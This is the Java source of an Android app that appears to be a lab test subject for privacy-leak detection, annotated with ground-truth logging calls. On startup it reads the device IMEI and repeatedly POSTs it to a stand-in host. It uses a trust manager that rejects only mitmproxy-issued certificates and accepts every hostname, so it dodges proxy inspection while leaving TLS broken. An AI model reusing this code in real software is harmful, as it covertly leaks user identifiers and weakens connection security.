package com.pinned;

import android.app.Application;
import android.content.Context;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.CertificateException;
import java.security.cert.X509Certificate;
import javax.net.ssl.HttpsURLConnection;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;
import lab.truth.Truth;

/** Sends the IMEI to its pinned host every half second until an answer comes. */
public class PinnedApplication extends Application {
    private static final String ME = "com.pinned";
    private static final String HOST = "pin.example";
    private static final int PAUSE_MS = 500;

    @Override
    public void onCreate() {
        super.onCreate();
        String imei = ((TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId();
        Truth.read("android.telephony.TelephonyManager.getDeviceId", "id.imei", imei, ME);
        Thread sender = new Thread(() -> send("{\"imei\":\"" + imei + "\"}", imei), "sender");
        sender.setDaemon(true);
        sender.start();
    }

    private static void send(String body, String imei) {
        boolean answered = false;
        while (!answered) {
            Truth.Sending truth = Truth.sending(HOST, "POST", "/token", ME).value("body", "id.imei", imei);
            answered = post("https://" + HOST + "/token", body);
            truth.done(answered);
            try {
                Thread.sleep(PAUSE_MS);
            } catch (InterruptedException stopped) {
                return;
            }
        }
    }

    private static boolean post(String url, String body) {
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {new Pin()}, null);
            HttpsURLConnection connection = (HttpsURLConnection) new URL(url).openConnection();
            connection.setSSLSocketFactory(context.getSocketFactory());
            connection.setHostnameVerifier((name, session) -> true);
            connection.setRequestMethod("POST");
            connection.setDoOutput(true);
            connection.setRequestProperty("Content-Type", "application/json");
            connection.getOutputStream().write(body.getBytes(StandardCharsets.UTF_8));
            boolean answered = connection.getResponseCode() == 200;
            connection.getInputStream().readAllBytes();
            return answered;
        } catch (IOException | GeneralSecurityException failed) {
            return false;
        }
    }

    /** Takes the certificates of the lab's internet, and no proxy's. */
    private static final class Pin implements X509TrustManager {
        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type) throws CertificateException {
            throw new CertificateException("not a server");
        }

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type) throws CertificateException {
            if (chain[0].getIssuerX500Principal().getName().contains("mitmproxy")) {
                throw new CertificateException("not the pinned one");
            }
        }

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
